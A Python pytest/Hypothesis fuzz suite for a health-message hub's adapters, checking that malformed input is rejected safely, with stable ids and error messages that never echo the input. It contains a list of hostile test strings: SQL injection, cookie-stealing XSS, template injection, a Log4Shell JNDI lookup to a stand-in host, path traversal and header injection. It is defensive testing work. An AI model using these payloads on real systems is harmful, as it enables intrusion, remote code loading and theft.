"""Fuzzing the adapters (issue "Deliveries you can trust", item 6).

Hypothesis throws malformed and hostile payloads at `adapters.adapt` for every
inbound kind. Whatever the bytes, the outcome is one of:

* a `CanonicalEvent`, whose id is the same when the same bytes are adapted again;
* a `Rejected` with at least one `FieldError`, each with an RFC 6901 pointer
  (``""`` or ``/...``, ``~`` only as ``~0``/``~1``) and a non-empty message that
  never contains an injected string of four or more characters;

never an exception, and never slow (each example has a deadline). The inputs:

(a) arbitrary bytes; (b) arbitrary JSON values, with keys often the real field
names so validation goes deep; (c) each kind's valid example with one node (any
JSON path, containers included) replaced by a hostile value or removed; (d)
invalid UTF-8 inside otherwise valid JSON; (e) unknown fields added anywhere,
which must change nothing; and dates and timestamps at the calendar's edges in
every date field. The guards of `adapters.adapt` (256 KiB cap, UTF-8, nesting
depth) also have exact tests at their boundaries.

The leak check skips only strings a message may contain without having copied
them: short plain ones, field names and enumerated values, and pieces of the
rules' own wording (Hypothesis mines string constants from the code under test,
so it does generate "required"). No health check is suppressed.

`now` is fixed after every example's dates (2026-11-20..28), so each unmodified
example is accepted. The whole file runs in about 10 s; ``HUB_FUZZ_SCALE=N``
multiplies every example budget for a longer soak.
"""
from __future__ import annotations

import ast
import json
import os
import re
import string
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from pydantic import BaseModel

import schemas.sources as sources
from adapters import MAX_MESSAGE_BYTES, MAX_NESTING_DEPTH, adapt
from hub.directory import load_directory
from schemas.events import CanonicalEvent, FieldError, Rejected
from schemas.vocab import SOURCE_KINDS

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)
DIRECTORY = load_directory()
KINDS: tuple[str, ...] = tuple(SOURCE_KINDS)  # fit-note, oh-referral, access-to-work, oh-outcome
EXAMPLE: dict[str, dict[str, Any]] = {
    kind: json.loads((EXAMPLES / f"{kind}.example.json").read_text()) for kind in KINDS
}
EXAMPLE_ORG = {kind: msg["source"]["org_id"] for kind, msg in EXAMPLE.items()}

TOO_LARGE = FieldError("", "message larger than 256 KiB")

# HUB_FUZZ_SCALE=20 multiplies every example budget (a longer soak, e.g. nightly).
SCALE = max(1, int(os.environ.get("HUB_FUZZ_SCALE", "1")))

# Per-example deadline: an adapter call takes well under 10 ms even at the size
# cap; a second leaves room for a loaded two-core CI machine, and still catches
# anything quadratic or a hang.
DEADLINE = timedelta(seconds=1)

# ---------------------------------------------------------------- the contract

_POINTER = re.compile(r"^(/([^/~]|~[01])*)*$")  # RFC 6901
# A string may occur in a message without having been copied from the input: a
# short plain one ("must", "4000", "1177"), or a piece of the rules' own wording
# ("required"; Hypothesis mines string constants from the code under test, so it
# does generate those). Only such strings are exempt from the leak check.
_PLAIN = frozenset(string.ascii_letters + string.digits + " -()._,")
_ROOT = Path(__file__).resolve().parents[1]


def _rule_wording() -> str:
    """Every string literal (f-string parts included) in the adapters and schemas,
    and in the pipeline (which words the subject errors)."""
    texts = []
    for path in sorted([*_ROOT.glob("adapters/*.py"), *_ROOT.glob("schemas/*.py"), _ROOT / "hub/pipeline.py"]):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if isinstance(node, ast.Constant) and isinstance(node.value, str):
                texts.append(node.value)
    return "\n".join(texts)


RULE_WORDING = _rule_wording()


def _exempt(s: str) -> bool:
    return (len(s) < 8 and set(s) <= _PLAIN) or s in VOCABULARY or s in RULE_WORDING


def leak_candidates(value: Any) -> set[str]:
    """Every string (keys too) of 4+ characters in an injected value that no rule
    message could contain by coincidence. Iterative: injected values may be deep."""
    found: set[str] = set()
    stack = [value]
    while stack:
        v = stack.pop()
        if isinstance(v, str):
            s = v.strip()
            if len(s) >= 4 and not _exempt(s):
                found.add(s)
        elif isinstance(v, dict):
            stack.extend(v.keys())
            stack.extend(v.values())
        elif isinstance(v, (list, tuple)):
            stack.extend(v)
    return found


def check_outcome(
    kind: str,
    raw: bytes,
    *,
    injected: Any = None,
    subject_org_id: str | None = None,
) -> CanonicalEvent | Rejected:
    """Adapt `raw` twice and assert the outcome contract; return the result."""
    result = adapt(kind, raw, subject_org_id=subject_org_id, directory=DIRECTORY, now=NOW)
    assert isinstance(result, (CanonicalEvent, Rejected)), type(result)
    again = adapt(kind, raw, subject_org_id=subject_org_id, directory=DIRECTORY, now=NOW)
    if len(raw) > MAX_MESSAGE_BYTES:
        assert result == Rejected((TOO_LARGE,))
    if isinstance(result, CanonicalEvent):
        assert isinstance(again, CanonicalEvent)
        assert again.event_id == result.event_id and again.content_hash == result.content_hash
        assert result.kind == kind and uuid.UUID(result.event_id)
        return result
    assert result.errors, "a Rejected must say why"
    assert again == result, "the same bytes are refused for the same reasons"
    leaks = leak_candidates(injected)
    for error in result.errors:
        assert isinstance(error, FieldError)
        assert isinstance(error.pointer, str) and _POINTER.match(error.pointer), error.pointer
        assert isinstance(error.message, str) and error.message.strip(), error
        for text in leaks:
            assert text not in error.message, f"{error.pointer}: message repeats the injected value"
    return result


# ------------------------------------------------------------------ strategies

# Every field name any source model knows: keys drawn from these reach deep
# validation; unknown-field keys are drawn from anything else.
FIELD_NAMES: frozenset[str] = frozenset(
    name
    for obj in vars(sources).values()
    if isinstance(obj, type) and issubclass(obj, BaseModel)
    for name in obj.model_fields
) | frozenset(SOURCE_KINDS.values())

# Field names and the rules' own values, which a rule message may name
# ("must be a fit note assessment: not-fit or may-be-fit").
VOCABULARY: frozenset[str] = FIELD_NAMES | frozenset({
    *sources.PROFESSIONS, *sources.EMPLOYMENT_STATUSES, *sources.ASSESSMENTS, *sources.REFERRER_TYPES,
    *sources.URGENCIES, *sources.NATIONS, *sources.ATW_SUPPORT, *sources.FITNESS_OPINIONS,
    "northern-ireland",
})

INJECTIONS = (
    "'; DROP TABLE events;--",
    "Robert'); DROP TABLE students;--",
    "' OR '1'='1' --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%s%s%s%s%n",
    "\r\nX-Injected: yes",
    "$where: function() { return true }",
    "__proto__",
    "A\u0000B\u0000C\u0000D",
    "\u202egnp.exe\u202c",
    "\u200b\u200d\u2060\ufeff",
    "😀💥👩‍👩‍👧‍👦🏳️‍🌈",
    "\u2028line\u2029para",
    "Zalgo: Z\u0351\u0363a\u0350l\u0352g\u0306o\u0346",
)
_SAFE_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)  # no lone surrogates
_HOSTILE_CHARS = ("\u0000", "\u202e", "😀", "\u200d", "é", "A", "9", " ", "<", "'", "\\")


class Raw:
    """JSON text spliced into the serialised message as it is (deep nesting, bad bytes)."""

    def __init__(self, data: bytes) -> None:
        self.data = data

    def __repr__(self) -> str:
        return f"Raw({self.data[:40]!r}{'...' if len(self.data) > 40 else ''}, {len(self.data)} bytes)"


def deep(depth: int, opener: str) -> Raw:
    if opener == "[":
        return Raw(b"[" * depth + b"]" * depth)
    return Raw(b'{"a":' * depth + b"0" + b"}" * depth)


def json_values(
    keys: st.SearchStrategy[str] | None = None, max_leaves: int = 12, *, strict: bool = False
) -> st.SearchStrategy:
    """Arbitrary JSON values. Unless `strict`, with integers beyond 64 bits and
    NaN/Infinity, which the stdlib serialiser writes and orjson refuses."""
    keys = keys if keys is not None else st.one_of(st.sampled_from(sorted(FIELD_NAMES)), _SAFE_TEXT)
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**63), 2**63 - 1) if strict else st.integers(),
        st.just(0) if strict else st.integers(min_value=-(10**30), max_value=10**30),
        st.floats(allow_nan=not strict, allow_infinity=not strict),
        _SAFE_TEXT,
        st.sampled_from(INJECTIONS),
    )
    return st.recursive(
        scalars,
        lambda children: st.one_of(
            st.lists(children, max_size=4), st.dictionaries(keys, children, max_size=4)
        ),
        max_leaves=max_leaves,
    )


# Dates and timestamps at and past the edges of the calendar and of Python's
# datetime (a timestamp whose UTC equivalent is outside years 1..9999 once crashed
# the bundle builder).
EDGE_DATES = (
    "0001-01-01", "9999-12-31", "9999-12-05", "0000-01-01", "2024-02-29", "2026-02-29", "2026-13-01",
    "2026-11-31", "20261120", "+2026-11-20", "2026-W48-1", "2026-11-20T00:00:00Z", " 2026-11-20",
    "2026-11-20\n", "٢٠٢٦-١١-٢٠",
)
EDGE_TIMESTAMPS = (
    "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59.999999999Z",
    "0001-01-01T00:00:00Z", "2026-11-20T24:00:00Z", "2026-11-20T09:15:60Z", "2026-11-20T09:15:00+99:99",
    "2026-11-20t09:15:00z", "2026-11-20 09:15:00Z", "2026-11-20T09:15:00", "2026-11-20T09:15:00+24:00",
    "2026-11-20T09:15:00-00:00", "2026-11-20T09:15:00.Z", "2026-11-20",
)


def _timestamp(moment: datetime, offset_minutes: int, fraction: bool) -> str:
    sign = "+" if offset_minutes >= 0 else "-"
    hours, minutes = divmod(abs(offset_minutes), 60)
    return f"{moment.isoformat(timespec='microseconds' if fraction else 'seconds')}{sign}{hours:02}:{minutes:02}"


dates = st.one_of(st.sampled_from(EDGE_DATES), st.dates().map(lambda d: d.isoformat()))
timestamps = st.one_of(
    st.sampled_from(EDGE_TIMESTAMPS),
    st.builds(_timestamp, st.datetimes(), st.integers(-(24 * 60 - 1), 24 * 60 - 1), st.booleans()),
)

hostile_values = st.one_of(
    # wrong types
    st.integers(),
    st.floats(),
    st.booleans(),
    st.none(),
    st.lists(st.one_of(st.integers(), _SAFE_TEXT), max_size=3),
    st.dictionaries(_SAFE_TEXT, st.one_of(st.integers(), _SAFE_TEXT), max_size=3),
    st.just([]),
    st.just({}),
    # hostile strings
    st.sampled_from(INJECTIONS),
    _SAFE_TEXT,
    st.builds(lambda a, b, c: a + b + c, _SAFE_TEXT, st.sampled_from(INJECTIONS), _SAFE_TEXT),
    # huge strings: up to ~300 KB, so some take the message over the cap
    st.builds(lambda ch, n: ch * n, st.sampled_from(_HOSTILE_CHARS),
              st.one_of(st.integers(0, 5_000), st.integers(200, 300_000))),
    # deep nesting, either side of the depth limit and beyond orjson's own
    st.builds(deep, st.integers(1, 3_000), st.sampled_from("[{")),
    # dates and timestamps at the edges
    dates,
    timestamps,
    # anything at all
    json_values(),
)

_PLACEHOLDER = "\u0001raw-{}-" + uuid.uuid4().hex


def serialise(msg: Any, *, ascii_only: bool = False) -> bytes:
    """JSON bytes of `msg` (the stdlib serialiser: big integers and NaN as written),
    with each `Raw` spliced in verbatim; non-ASCII as UTF-8 or, if `ascii_only`,
    as \\u escapes (surrogate pairs beyond the BMP)."""
    raws: list[bytes] = []

    def default(obj: Any) -> str:
        if isinstance(obj, Raw):
            raws.append(obj.data)
            return _PLACEHOLDER.format(len(raws) - 1)
        raise TypeError(type(obj))

    text = json.dumps(msg, ensure_ascii=ascii_only, default=default).encode("utf-8")
    for i, data in enumerate(raws):
        text = text.replace(json.dumps(_PLACEHOLDER.format(i), ensure_ascii=False).encode("utf-8"), data)
    return text


def json_paths(value: Any, prefix: tuple = ()) -> list[tuple]:
    """Every path to a node below the root (object keys and array indexes)."""
    out: list[tuple] = []
    if isinstance(value, dict):
        items = value.items()
    elif isinstance(value, list):
        items = enumerate(value)
    else:
        return out
    for key, child in items:
        out.append((*prefix, key))
        out.extend(json_paths(child, (*prefix, key)))
    return out


def get(msg: Any, path: tuple) -> Any:
    for key in path:
        msg = msg[key]
    return msg


PATHS = {kind: json_paths(msg) for kind, msg in EXAMPLE.items()}
OBJECT_PATHS = {
    kind: [(), *(p for p in PATHS[kind] if isinstance(get(EXAMPLE[kind], p), dict))] for kind in KINDS
}
_DELETE = object()


def replaced(msg: dict, path: tuple, value: Any) -> dict:
    """A copy of msg (copied along `path` only) with the node at path set or removed."""
    if not path:
        return value
    head, rest = path[0], path[1:]
    copy: Any = dict(msg) if isinstance(msg, dict) else list(msg)
    if rest:
        copy[head] = replaced(msg[head], rest, value)
    elif value is _DELETE:
        del copy[head]
    else:
        copy[head] = value
    return copy


subject_orgs = st.sampled_from([None, "B86001", "EMP-ACME", "OHP-HEALTHWORKS", "ATW-ONLINE", "ZZ-UNKNOWN"])


@st.composite
def mutated_examples(draw: st.DrawFn) -> tuple[str, bytes, Any]:
    """(kind, bytes, injected): a valid example with one node replaced or removed."""
    kind = draw(st.sampled_from(KINDS))
    path = draw(st.sampled_from(PATHS[kind]))
    value = draw(st.one_of(hostile_values, st.just(_DELETE)))
    msg = replaced(EXAMPLE[kind], path, value)
    return kind, serialise(msg, ascii_only=draw(st.booleans())), None if value is _DELETE else value


def _accepts_free_text(kind: str, path: tuple) -> bool:
    msg = replaced(EXAMPLE[kind], path, "Free text, 12")
    result = adapt(kind, serialise(msg), subject_org_id=None, directory=DIRECTORY, now=NOW)
    return isinstance(result, CanonicalEvent)


# The string fields that take free text (ids, names, clinical text ...): hostile
# strings there are accepted, so they travel into the bundle, the database and
# the deliveries.
FREE_TEXT_PATHS = {
    kind: [p for p in PATHS[kind] if isinstance(get(EXAMPLE[kind], p), str) and _accepts_free_text(kind, p)]
    for kind in KINDS
}
# Characters that break storage, terminals and layouts: NUL, ESC sequences,
# CR LF, the byte order mark, a right-to-left override, an emoji.
CONTROLS = ("\u0000", "\u001b[31m", "\r\n", "\ufeff", "\u202e", "😀")
hostile_text = st.one_of(
    st.sampled_from(INJECTIONS),
    _SAFE_TEXT,
    st.builds(lambda a, b, c: a + b + c, _SAFE_TEXT, st.sampled_from(INJECTIONS), _SAFE_TEXT),
    st.builds(lambda a, b, c: a + b + c, _SAFE_TEXT, st.sampled_from(CONTROLS), _SAFE_TEXT),
)


@st.composite
def hostile_free_text(draw: st.DrawFn, base: dict[str, dict] = EXAMPLE) -> tuple[str, bytes, Any]:
    """(kind, bytes, injected): a valid message (by default the example) with
    hostile strings in one to three of its free-text fields."""
    kind = draw(st.sampled_from(KINDS))
    paths = draw(st.lists(st.sampled_from(FREE_TEXT_PATHS[kind]), min_size=1, max_size=3, unique=True))
    msg, injected = base[kind], []
    for path in paths:
        injected.append(draw(hostile_text))
        msg = replaced(msg, path, injected[-1])
    return kind, serialise(msg, ascii_only=draw(st.booleans())), injected


_DATE = re.compile(r"^[0-9]{4}-[0-9]{2}-[0-9]{2}")
DATE_PATHS = {kind: [p for p in PATHS[kind] if _DATE.match(str(get(EXAMPLE[kind], p)))] for kind in KINDS}


def not_utf8(offset: int) -> FieldError:
    return FieldError("", f"not valid JSON: not UTF-8 (invalid byte at offset {offset})")


# Byte sequences no UTF-8 decoder accepts: a lone continuation byte, 0xFF, an
# overlong "/", an encoded surrogate, a code point past U+10FFFF, a truncated
# three-byte sequence, Latin-1 "é".
BAD_UTF8 = (b"\x80", b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\xe9")

# --------------------------------------------------------------------- tests

FAST = settings(max_examples=300 * SCALE, deadline=DEADLINE)


@FAST
@given(kind=st.one_of(st.sampled_from(KINDS), _SAFE_TEXT), raw=st.binary(max_size=2_000))
def test_arbitrary_bytes(kind: str, raw: bytes) -> None:
    check_outcome(kind, raw)


@FAST
@given(
    kind=st.sampled_from(KINDS),
    value=st.one_of(
        json_values(max_leaves=40),
        # an object with the envelope's and bodies' keys, values anything
        st.dictionaries(st.sampled_from(["message_id", "sent_at", "source", *SOURCE_KINDS.values()]),
                        json_values(), max_size=5),
    ),
    subject_org_id=subject_orgs,
)
def test_arbitrary_json(kind: str, value: Any, subject_org_id: str | None) -> None:
    check_outcome(kind, serialise(value), injected=value, subject_org_id=subject_org_id)


@settings(max_examples=400 * SCALE, deadline=DEADLINE)
@given(case=mutated_examples(), use_subject=st.booleans())
def test_one_hostile_field(case: tuple[str, bytes, Any], use_subject: bool) -> None:
    kind, raw, injected = case
    check_outcome(kind, raw, injected=injected, subject_org_id=EXAMPLE_ORG[kind] if use_subject else None)


@settings(max_examples=200 * SCALE, deadline=DEADLINE)
@given(case=hostile_free_text())
def test_hostile_free_text_is_carried_or_refused_by_rule(case: tuple[str, bytes, Any]) -> None:
    """Hostile free text is accepted as it is, unless it breaks a text rule
    (blank, too long, a NUL), and then only that field is named."""
    kind, raw, injected = case
    result = check_outcome(kind, raw, injected=injected)
    if isinstance(result, Rejected):
        assert all(e.message.startswith(("must be a non-empty string", "must not contain the NUL"))
                   for e in result.errors), result.errors


@settings(max_examples=200 * SCALE, deadline=DEADLINE)
@given(kind=st.sampled_from(KINDS), data=st.data())
def test_hostile_strings_at_every_leaf(kind: str, data: st.DataObject) -> None:
    """A hostile string at every string leaf of the body at once (so each rule
    has one to refuse, and free text carries them into the bundle): no message
    repeats any of them."""
    msg = EXAMPLE[kind]
    leaves = [p for p in PATHS[kind] if isinstance(get(msg, p), str) and p[0] not in ("source",)]
    injected = []
    for path in leaves:
        value = data.draw(st.one_of(st.sampled_from(INJECTIONS), _SAFE_TEXT), label="/".join(map(str, path)))
        msg = replaced(msg, path, value)
        injected.append(value)
    check_outcome(kind, serialise(msg), injected=injected)


@settings(max_examples=200 * SCALE, deadline=DEADLINE)
@given(kind=st.sampled_from(KINDS), data=st.data())
def test_edge_dates_and_timestamps(kind: str, data: st.DataObject) -> None:
    """Every date and timestamp of the example (sent_at, periods, birth dates ...)
    set to values at and past the calendar's edges, several at once."""
    msg = EXAMPLE[kind]
    paths = data.draw(st.lists(st.sampled_from(DATE_PATHS[kind]), min_size=1, max_size=4, unique=True),
                      label="paths")
    for path in paths:
        msg = replaced(msg, path, data.draw(st.one_of(dates, timestamps), label="/".join(map(str, path))))
    check_outcome(kind, serialise(msg))


@settings(max_examples=200 * SCALE, deadline=DEADLINE)
@given(kind=st.sampled_from(KINDS), data=st.data(), bad=st.sampled_from(BAD_UTF8),
       anywhere=st.booleans())
def test_invalid_utf8_inside_valid_json(kind: str, data: st.DataObject, bad: bytes, anywhere: bool) -> None:
    raw = serialise(EXAMPLE[kind])
    if anywhere:  # at any byte offset
        at = data.draw(st.integers(0, len(raw)), label="offset")
        raw = raw[:at] + bad + raw[at:]
    else:  # inside one string value, which stays well-formed JSON otherwise
        strings = [p for p in PATHS[kind] if isinstance(get(EXAMPLE[kind], p), str)]
        path = data.draw(st.sampled_from(strings), label="path")
        text = get(EXAMPLE[kind], path)
        cut = data.draw(st.integers(0, len(text)), label="cut")
        marker = "\u0001bad\u0001"
        raw = serialise(replaced(EXAMPLE[kind], path, text[:cut] + marker + text[cut:]))
        raw = raw.replace(b"\\u0001bad\\u0001", bad)  # json escapes the control characters
        assert bad in raw
    result = check_outcome(kind, raw)
    assert isinstance(result, Rejected)
    assert result.errors == (not_utf8(raw.index(bad)),)


_unknown_keys = st.one_of(st.sampled_from(INJECTIONS), _SAFE_TEXT).filter(lambda k: k not in FIELD_NAMES)


@settings(max_examples=200 * SCALE, deadline=DEADLINE)
@given(kind=st.sampled_from(KINDS), data=st.data())
def test_unknown_fields_change_nothing(kind: str, data: st.DataObject) -> None:
    """Publishers may send more than the hub needs (§2): extra fields anywhere,
    with any (bounded) content, leave the event as it was: same id, same hash."""
    msg = EXAMPLE[kind]
    extras = data.draw(st.lists(
        st.tuples(st.sampled_from(OBJECT_PATHS[kind]), _unknown_keys, json_values(keys=_unknown_keys, strict=True)),
        min_size=1, max_size=4,
    ), label="extras")
    for path, key, value in extras:
        node = get(msg, path)
        assume(key not in node)
        msg = replaced(msg, (*path, key), value)
    expected = adapt(kind, serialise(EXAMPLE[kind]), subject_org_id=None, directory=DIRECTORY, now=NOW)
    result = check_outcome(kind, serialise(msg), injected=extras)
    assert isinstance(result, CanonicalEvent), result
    assert (result.event_id, result.content_hash) == (expected.event_id, expected.content_hash)


# ------------------------------------------------------- the guards, exactly


@pytest.mark.parametrize("kind", KINDS)
def test_every_example_is_accepted_as_it_is(kind: str) -> None:
    assert isinstance(check_outcome(kind, serialise(EXAMPLE[kind])), CanonicalEvent)


def padded(kind: str, size: int) -> bytes:
    raw = json.dumps(EXAMPLE[kind]).encode()
    return raw[:-1] + b" " * (size - len(raw)) + b"}"


@pytest.mark.parametrize("kind", KINDS)
def test_size_cap_is_exactly_256_kib(kind: str) -> None:
    assert MAX_MESSAGE_BYTES == 262_144
    at_cap = padded(kind, MAX_MESSAGE_BYTES)
    assert len(at_cap) == MAX_MESSAGE_BYTES
    assert isinstance(check_outcome(kind, at_cap), CanonicalEvent)
    over = padded(kind, MAX_MESSAGE_BYTES + 1)
    assert check_outcome(kind, over) == Rejected((TOO_LARGE,))


def test_no_injection_is_exempt_from_the_leak_check() -> None:
    assert leak_candidates(list(INJECTIONS)) == {i.strip() for i in INJECTIONS}


def test_http_uses_the_same_cap() -> None:
    from hub import api

    assert api.MAX_INBOUND_BYTES == MAX_MESSAGE_BYTES


def test_oversized_input_is_refused_before_it_is_read() -> None:
    started = time.perf_counter()
    result = check_outcome("fit-note", b"[" * 50_000_000)
    assert result == Rejected((TOO_LARGE,))
    assert time.perf_counter() - started < 0.5


TOO_DEEP = FieldError("", f"nested too deeply: at most {MAX_NESTING_DEPTH} levels of arrays and objects")


@pytest.mark.parametrize("opener", ["[", "{"])
def test_nesting_depth_limit(opener: str) -> None:
    too_deep = Rejected((TOO_DEEP,))
    # the whole message, and an unknown field inside a valid message
    assert check_outcome("fit-note", deep(MAX_NESTING_DEPTH + 1, opener).data) == too_deep
    assert check_outcome("fit-note", deep(MAX_NESTING_DEPTH, opener).data) != too_deep
    inside = {**EXAMPLE["fit-note"], "extra": deep(MAX_NESTING_DEPTH - 1, opener)}
    assert isinstance(check_outcome("fit-note", serialise(inside)), CanonicalEvent)
    inside = {**EXAMPLE["fit-note"], "extra": deep(MAX_NESTING_DEPTH, opener)}
    assert check_outcome("fit-note", serialise(inside)) == too_deep


# 100 000 levels of arrays; objects at 50 000 levels, which stays under the size cap
@pytest.mark.parametrize("raw", [b"[" * 100_000, b'{"a":' * 50_000, b"[" * 100_000 + b"]" * 100_000])
def test_very_deep_nesting_is_refused_quickly(raw: bytes) -> None:
    started = time.perf_counter()
    result = check_outcome("oh-referral", raw)
    assert time.perf_counter() - started < 0.5
    assert result == Rejected((TOO_DEEP,))


def test_a_str_is_measured_and_checked_as_utf8() -> None:
    assert check_outcome("fit-note", "é" * (MAX_MESSAGE_BYTES // 2 + 1)) == Rejected((TOO_LARGE,))
    (error,) = check_outcome("fit-note", '{"message_id": "\ud800"}').errors
    assert error == not_utf8(16)


@pytest.mark.parametrize("path", [("message_id",), ("fit_note", "id"), ("fit_note", "condition", "text"),
                                  ("source", "system")])
def test_nul_is_refused_in_text(path: tuple) -> None:
    """No PostgreSQL text column can hold U+0000, so an accepted message must not
    carry one into the event's columns (found by fuzzing the pipeline on PostgreSQL)."""
    msg = replaced(EXAMPLE["fit-note"], path, "FN\u0000-1234")
    result = check_outcome("fit-note", serialise(msg), injected="FN\u0000-1234")
    assert result.errors == (FieldError("/" + "/".join(path), "must not contain the NUL character (U+0000)"),)


@pytest.mark.parametrize("bad", BAD_UTF8)
def test_invalid_utf8_is_refused_with_its_offset(bad: bytes) -> None:
    raw = b'{"message_id": "' + bad + b'"}'
    assert check_outcome("fit-note", raw) == Rejected((not_utf8(16),))
